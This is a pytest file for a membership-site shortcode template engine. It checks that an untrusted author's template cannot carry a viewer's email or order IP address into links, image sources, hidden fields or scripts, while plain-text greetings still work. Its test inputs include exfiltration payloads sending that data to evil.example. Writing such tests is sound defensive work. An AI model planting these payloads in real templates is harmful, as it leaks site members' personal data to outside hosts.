"""What the viewer's own data may do in the text of somebody who may not see it: be read there, and go nowhere."""

from __future__ import annotations

import pytest

import shortcodes
from shortcodes.template import NOT_HIS_TO_SEE
from tests.shortcodes.builders import Member, a_view, an_order

EMAIL = "[MM_Member_Data name='email']"
LEAVING = [
    f'<img src="https://evil.example/?{EMAIL}">',
    f"<a href='https://evil.example/{EMAIL}'>x</a>",
    f"<a href='{EMAIL}'>x</a>",
    f"<input type=hidden name=x value='{EMAIL}'>",
    f"<p title={EMAIL}>x</p>",
    f"<script>send('{EMAIL}')</script>",
    f"<a href='[MM_Member_Decision isMember=true]https://evil.example/{EMAIL}[/MM_Member_Decision]'>x</a>",
    "<img src='https://evil.example/[MM_Order_Data name=ipAddress]'>",
]


@pytest.mark.parametrize("text", LEAVING)
def test_outside_of_the_text_itself_it_is_printed_only_where_the_author_is_trusted(text: str) -> None:
    view = {"own_order": an_order(ip="example")}
    template = shortcodes.compile(text)
    assert "example" in template.render(a_view(Member(email="alice@example"), **view)).text.replace(
        "evil.example", ""
    )
    rendered = template.render(a_view(Member(email="alice@example"), author_is_trusted=False, **view))
    assert "alice" not in rendered.text
    assert "example" not in rendered.text.replace("evil.example", "")
    assert NOT_HIS_TO_SEE in [one.message for one in rendered.diagnostics]


def test_in_the_text_itself_everybody_may_greet_his_reader() -> None:
    text = f"<p>Dear [MM_Member_Data name='firstName'], we write to {EMAIL}.</p>"
    view = a_view(author_is_trusted=False)
    assert "alice" in shortcodes.compile(text).render(view).text
    assert "author" not in view.asked


def test_nothing_is_asked_about_an_author_whose_text_prints_nothing_personal() -> None:
    view = a_view(core_pages={"login": "/login/"})
    shortcodes.compile("<a href=\"[MM_CorePage_Link type='login']\">x</a>").render(view)
    assert "author" not in view.asked
